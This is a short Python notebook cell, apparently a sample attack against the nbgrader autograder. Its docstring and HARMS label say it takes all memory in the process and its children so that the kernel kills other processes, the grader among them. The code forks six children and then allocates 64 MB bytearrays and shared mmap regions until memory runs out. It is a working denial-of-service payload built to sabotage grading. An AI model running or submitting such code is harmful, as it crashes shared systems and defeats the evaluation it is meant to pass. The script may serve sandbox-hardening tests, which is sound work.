"""Take all memory, in this process and in children, private and shared.

Gain: the kernel ends other processes, the grader among them.
"""

HARMS = "takes all memory; nothing in nbgrader limits it"

# %%
import mmap
import os

hoard = []
for _ in range(6):
    if os.fork() == 0:
        break
try:
    while True:
        hoard.append(bytearray(b"x" * (64 << 20)))
except MemoryError:
    pass
while True:
    try:
        shared = mmap.mmap(-1, 64 << 20)
    except (OSError, ValueError, MemoryError):
        break
    shared.write(b"x" * (64 << 20))
    hoard.append(shared)
